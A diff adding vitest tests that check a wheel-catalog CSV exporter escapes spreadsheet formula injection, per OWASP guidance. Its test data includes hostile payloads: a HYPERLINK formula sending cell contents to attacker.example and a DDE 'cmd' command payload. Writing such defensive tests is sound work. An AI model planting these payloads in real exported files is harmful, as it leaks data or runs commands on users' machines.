@@ -1,3 +1,4 @@
+import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
 import { CSV_COLUMNS, CSV_TEMPLATE, catalogToCsv, decodeCsvBytes, parseCatalogCsv } from "./csv";
 
@@ -132,5 +133,40 @@ describe("catalog CSV", () => {
     expect(parseCatalogCsv([HEAD, row({ ...base, wheel_backspacing_in: "5" })].join("\n")).errors[0]).toMatchObject({ column: "backspacing_from" });
     // 5 in to the bead seat on a 9 in wheel: offset = (5 − 4.5) × 25.4 = +12.7 mm (same formula as above).
     expect(parseCatalogCsv([HEAD, row({ ...base, wheel_backspacing_in: "5", backspacing_from: "bead-seat" })].join("\n")).items[0]!.wheel_offset_mm).toBeCloseTo(12.7, 9);
+  });
+});
+
+describe("catalog CSV export against formula injection (OWASP CSV Injection guidance)", () => {
+  const base = parseCatalogCsv(CSV_TEMPLATE).items.map(({ row: _r, ...i }) => i);
+  const hostile = [
+    "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "''-twice",
+    "'plain apostrophe",
+  ];
+  const items = hostile.map((description, k) => ({ ...base[k % 2 ? 1 : 3]!, sku: `X-${k}`, description }));
+
+  it("writes no text cell that a spreadsheet would run as a formula", () => {
+    const rows = Papa.parse<string[]>(catalogToCsv(items), { skipEmptyLines: true }).data.slice(1);
+    const d = CSV_COLUMNS.indexOf("description");
+    for (const cells of rows) expect(cells[d], cells[d]).not.toMatch(/^[=+\-@\t\r]/);
+    expect(rows[0]![d]).toBe(`'${hostile[0]}`);
+  });
+
+  it("keeps a negative offset a number: numeric columns are not quoted", () => {
+    const rows = Papa.parse<string[]>(catalogToCsv(base), { skipEmptyLines: true }).data.slice(1);
+    // The template's 17x9 wheel at −12 mm (an invented product).
+    expect(rows[1]![CSV_COLUMNS.indexOf("wheel_offset_mm")]).toBe("-12");
+  });
+
+  it("reads the exported file back to the same values (round trip)", () => {
+    const back = parseCatalogCsv(catalogToCsv(items));
+    expect(back.errors).toEqual([]);
+    expect(back.items.map(({ row: _r, ...i }) => i)).toEqual(items.map((i) => ({ ...i, description: i.description.trim() })));
   });
 });
